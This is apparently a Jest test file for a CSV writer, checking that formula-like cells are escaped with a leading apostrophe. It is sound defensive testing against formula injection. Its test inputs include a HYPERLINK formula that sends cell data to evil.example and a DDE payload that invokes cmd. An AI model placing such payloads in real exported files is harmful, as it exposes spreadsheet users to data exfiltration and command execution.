import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvLine } from './csv-text.js';

const cellOf = (text: string): string => parse(csvLine([text, 'x']))[0]?.[0] ?? '';

describe('a cell of a CSV file', () => {
  it.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '|calc',
    '%0A=1',
    '  =1',
    '\t=1',
    '\r=1',
    '\n=1',
    '\u00a0=1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff20SUM(A1)',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
  ])('is no formula: %j', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  it.each(['a;=1', 'a\t=1', 'a\n=1', 'a,=1', '"=1', "'=1"])(
    'ends where it ends, whatever stands between cells: %j',
    (text) => {
      expect(csvLine([text])).toMatch(/^"[^]*"\r\n$/);
      expect(cellOf(text)).toBe(text);
    },
  );

  it('is read as it was written, but for the apostrophe', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect([text, `'${text}`]).toContain(cellOf(text));
        expect(cellOf(text)).not.toMatch(/^\s*[=+\-@|%]/);
      }),
    );
  });

  it('is a number where it is one, and empty where nothing is known', () => {
    expect(csvLine([-1, 0.5, null, ''])).toBe('-1,0.5,,\r\n');
  });
});
